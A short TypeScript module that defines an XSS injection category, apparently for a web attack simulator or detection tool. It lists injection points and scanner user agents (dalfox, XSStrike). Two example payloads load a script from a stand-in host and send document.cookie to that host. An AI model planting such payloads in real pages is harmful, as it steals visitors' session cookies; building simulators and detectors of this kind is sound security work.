import { injection } from "./injection.ts";
import { XSS } from "./payloads/xss.ts";

export const injectionXss = injection({
  class: "xss",
  title: "script in pages",
  payloads: XSS,
  points: ["search", "searchPage", "next", "category", "review", "referer"],
  exploits: [
    { payload: "<script src=//collect.example/h.js></script>", larger: 1.02 },
    { payload: "\"><svg/onload=fetch('//collect.example/?c='+document.cookie)>", larger: 1.02 },
  ],
  tools: ["dalfox/2.9.3", "Mozilla/5.0 (compatible; XSStrike/3.1.5)"],
});
